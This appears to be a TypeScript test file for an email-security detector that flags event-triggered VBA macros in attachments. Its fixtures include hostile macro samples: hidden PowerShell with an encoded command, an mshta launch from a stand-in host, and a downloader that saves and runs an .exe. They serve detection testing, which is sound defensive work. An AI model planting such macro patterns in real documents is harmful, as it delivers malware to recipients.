import eventStartedMacro from '../../../src/detection/detectors/document/event-started-macro';
import { honestMacros } from '../../../src/specimens/office/macros';
import { attachment, message, unreadAttachment } from '../../../src/specimens/mail/message';
import { macroDocument, vbaProject } from '../../../src/specimens/office/vba';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { xlsx } from '../../../src/specimens/office/ooxml';
import { testDetector } from '../test-detector';

const book = (source: string) =>
  unzipSync(xlsx({ vba: vbaProject({ modules: [{ name: 'Module1', source }] }), text: ['x'] }));

/** A workbook whose sheet has a button of this macro. */
function withButton(source: string, macro: string): Uint8Array {
  const files = book(source);
  const sheet = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  files['xl/worksheets/sheet1.xml'] = strToU8(
    sheet.replace(
      '</worksheet>',
      `<controls><control><controlPr macro="[0]!${macro}"/></control></controls></worksheet>`,
    ),
  );
  return zipSync(files);
}

/** A workbook with a formula in its second row. */
function withFormula(source: string, formula: string): Uint8Array {
  const files = book(source);
  const sheet = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  files['xl/worksheets/sheet1.xml'] = strToU8(
    sheet.replace('</sheetData>', `<row r="2"><c r="A2"><f>${formula}</f></c></row></sheetData>`),
  );
  return zipSync(files);
}

const mail = (modules: Parameters<typeof macroDocument>[0], options?: Parameters<typeof macroDocument>[1]) =>
  message({ attachments: [attachment('invoice.doc', macroDocument(modules, options))] });
const locked = message({ attachments: [unreadAttachment('invoice.doc', 'too-large')] });

testDetector(eventStartedMacro, {
  fires: [
    {
      name: 'tidying up on closing',
      mail: mail(honestMacros['tidy up on closing'] ?? []),
      finds: [{ message: 'startsAtClosing', values: { procedure: 'Workbook_BeforeClose' } }],
    },
    {
      name: 'a control that is drawn, with half a technique behind it',
      mail: mail('Private Sub Frame1_Layout()\nActiveDocument.InlineShapes(1).OLEFormat.DoVerb\nEnd Sub'),
      finds: [{ message: 'startsAtEvent', values: { procedure: 'Frame1_Layout' }, weight: 10 }],
    },
    {
      name: 'hidden PowerShell behind a button: no business code has it, whatever starts it',
      mail: mail('Sub CommandButton1_Click()\nShell "powershell -w hidden -enc QUFBQUFB", 0\nEnd Sub'),
      finds: [{ message: 'waitsForClick', values: { means: 'shell' }, weight: 30 }],
    },
    {
      name: 'the same where nothing is seen that starts it',
      mail: mail('Sub Picture1()\nCreateObject("WScript.Shell").Run "mshta http://files.invalid/a", 0\nEnd Sub'),
      finds: [{ message: 'waitsForClick', values: { means: 'WScript.Shell' }, weight: 30 }],
    },
    {
      name: 'a program that is fetched, written and started behind a picture',
      mail: mail(
        'Sub Picture1_Click()\nSet h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://files.invalid/a", False\nh.Send\nSet s = CreateObject("ADODB.Stream")\ns.Write h.responseBody\ns.SaveToFile Environ("TEMP") & "\\notreal.exe"\nShell Environ("TEMP") & "\\notreal.exe"\nEnd Sub',
      ),
      finds: [{ message: 'waitsForClick', weight: 30 }],
    },
    {
      name: 'a link in a sheet that starts a hidden window',
      mail: mail([
        {
          name: 'Sheet1',
          kind: 'document',
          source:
            'Private Sub Worksheet_FollowHyperlink(ByVal Target As Hyperlink)\nCreateObject("WScript.Shell").Run "notreal /x", 0\nEnd Sub',
        },
      ]),
      finds: [{ message: 'waitsForClick', weight: 30 }],
    },
    {
      name: 'a button that starts a program in a window of its own, worth little',
      mail: mail('Sub CommandButton1_Click()\nShell "C:\\nowhere\\scanner.exe", 1\nEnd Sub'),
      finds: [{ message: 'waitsForClick', weight: 12 }],
    },
    {
      name: 'a shape that starts a program, as buttons of business workbooks do: only named',
      mail: message({
        attachments: [attachment('a.xlsm', withButton('Sub Export()\nShell "notreal.exe", 0\nEnd Sub', 'Export'))],
      }),
      finds: [{ message: 'waitsForClick', weight: 3, proof: { needs: 'click', runs: [{ text: 'notreal.exe' }] } }],
    },
  ],
  silent: [
    {
      name: 'a function of the workbook in one of its cells',
      mail: message({
        attachments: [
          attachment(
            'a.xlsm',
            withFormula(
              'Function Rate(a)\nSet h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://rates.example/" & a, False\nh.Send\nRate = Val(h.responseText)\nEnd Function',
              'Rate(A1)',
            ),
          ),
        ],
      }),
    },
    {
      name: 'a button that prints a sheet',
      mail: message({
        attachments: [attachment('a.xlsm', withButton('Sub Export()\nActiveSheet.PrintOut\nEnd Sub', 'Export'))],
      }),
    },
    {
      name: 'a double click that opens the file which the cell names',
      mail: mail([
        {
          name: 'Sheet1',
          kind: 'document',
          source:
            'Private Sub Worksheet_BeforeDoubleClick(ByVal Target As Range, Cancel As Boolean)\nThisWorkbook.FollowHyperlink Target.Value\nEnd Sub',
        },
      ]),
    },
    {
      name: 'a form that is laid out when it is shown',
      mail: mail([{ name: 'Form1', kind: 'form', source: 'Private Sub Frame1_Layout()\nx = 1\nEnd Sub' }]),
    },
    { name: 'a click', mail: mail('Private Sub Image1_Click()\nx = 1\nEnd Sub') },
  ],
  unchecked: [{ name: 'a document that is too large to hand over', mail: locked, gap: 'too-large' }],
});
